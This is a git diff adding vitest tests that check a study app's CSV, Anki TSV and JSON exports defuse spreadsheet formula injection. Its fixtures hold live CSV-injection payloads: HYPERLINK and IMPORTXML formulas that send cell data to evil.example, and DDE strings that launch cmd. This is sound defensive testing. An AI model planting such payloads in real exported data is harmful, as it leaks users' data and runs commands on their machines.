@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { applySave } from '../../utils/study/model';
-import { csvField, toAnkiTsv, toCsv, toJsonBackup } from '../../utils/study/export';
+import { csvField, guardCell, toAnkiTsv, toCsv, toJsonBackup, unguardCell } from '../../utils/study/export';
 import { firstInvalidUtf8, MAX_IMPORT_BYTES, parseImport } from '../../utils/study/import';
 import type { StudyItem } from '../../utils/study/types';
 import { saveReq } from './helpers';
@@ -163,6 +163,90 @@ describe('CSV', () => {
   it('an unclosed quote is named', () => {
     const r = parseImport(enc('simplified,traditional,pinyin,meaning,category,explanation,sentence,title,url,notes,saved\n干部,"幹部\n'));
     expect(r).toEqual({ ok: false, error: 'Line 2: a quoted field is never closed.' });
+  });
+});
+
+describe('cells a spreadsheet would run (CSV injection)', () => {
+  /** Items whose page title, sentence, notes, sense or address start like a formula. */
+  function hostile(): StudyItem[] {
+    let items = applySave(
+      [],
+      saveReq({
+        sentence: '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
+        pageTitle: '+cmd|\' /C calc\'!A0',
+        url: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+        definitions: ['-ism', 'cadre'],
+      }),
+      Date.UTC(2026, 0, 2),
+    ).items;
+    items = applySave(items, saveReq({ sentence: '\t=1+1', pageTitle: '\r=2+2', url: "'=already guarded by hand" }), Date.UTC(2026, 0, 3)).items;
+    items[0]!.notes = '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")';
+    items = applySave(items, saveReq({ simplified: '两岸', traditional: '兩岸', sentence: '＝全角等号开头的句子', pageTitle: 'plain title', url: '' }), Date.UTC(2026, 0, 4)).items;
+    return items;
+  }
+
+  /** The cells of our CSV, read by a small RFC 4180 reader of the test's own. */
+  function csvCells(text: string): string[][] {
+    const rows: string[][] = [];
+    let row: string[] = [];
+    let cell = '';
+    let quoted = false;
+    for (let i = text.charCodeAt(0) === 0xfeff ? 1 : 0; i < text.length; i++) {
+      const c = text[i]!;
+      if (quoted) {
+        if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
+        else if (c === '"') quoted = false;
+        else cell += c;
+      } else if (c === '"') quoted = true;
+      else if (c === ',') row.push(cell), (cell = '');
+      else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
+      else cell += c;
+    }
+    return rows;
+  }
+
+  const startsLikeFormula = (cell: string) => /^[=+\-@\t\r＝＋－＠]/.test(cell);
+
+  it('guardCell makes formula starts text, and unguardCell undoes exactly that', () => {
+    for (const s of ['=1+1', '+1', '-1', '@A1', '\t=1', '\r=1', '＝1', "'=1", "''+x", "'plain", 'plain', '', "'"]) {
+      expect(startsLikeFormula(guardCell(s)), s).toBe(false);
+      expect(unguardCell(guardCell(s)), s).toBe(s);
+    }
+    expect(guardCell('=1+1')).toBe("'=1+1");
+    expect(guardCell("'plain")).toBe("'plain");
+  });
+
+  it('no CSV cell starts like a formula, and importing the CSV gives back the exact text', () => {
+    const items = hostile();
+    const csv = toCsv(items);
+    const cells = csvCells(csv).flat();
+    expect(cells.filter(startsLikeFormula)).toEqual([]);
+    // (applySave trims a sentence: the second one is "=1+1")
+    expect(cells).toContain('\'=HYPERLINK("http://evil.example/?leak="&A1,"点击")\n=1+1');
+    const r = ok(parseImport(enc(csv)));
+    expect(r.items.map((i) => [i.notes, i.definitions, i.contexts.map((c) => [c.sentence, c.title, c.url])])).toEqual(
+      items.map((i) => [i.notes, i.definitions, i.contexts.map((c) => [c.sentence, c.title, c.url])]),
+    );
+  });
+
+  it('no TSV field starts like a formula, and importing the TSV gives back the text', () => {
+    const items = hostile();
+    const tsv = toAnkiTsv(items);
+    const fields = tsv.split('\n').filter((l) => l && !l.startsWith('#')).flatMap((l) => l.split('\t'));
+    expect(fields.filter(startsLikeFormula)).toEqual([]);
+    const r = ok(parseImport(enc(tsv)));
+    expect(r.items[0]!.contexts[0]!.sentence).toBe(items[0]!.contexts[0]!.sentence);
+    expect(r.items[0]!.contexts[0]!.title).toBe(items[0]!.contexts[0]!.title);
+    expect(r.items[0]!.definitions).toEqual(items[0]!.definitions);
+    expect(r.items[0]!.definitions[0]).toBe('-ism');
+    expect(r.items[1]!.contexts[0]!.sentence).toBe('＝全角等号开头的句子');
+  });
+
+  it('the JSON backup keeps such text exactly as saved', () => {
+    const items = hostile();
+    const json = toJsonBackup(items);
+    expect(json).toContain('"sentence":"=HYPERLINK(\\"http://evil.example/?leak=\\"&A1,\\"点击\\")"');
+    expect(ok(parseImport(enc(json))).items).toEqual(items);
   });
 });
 
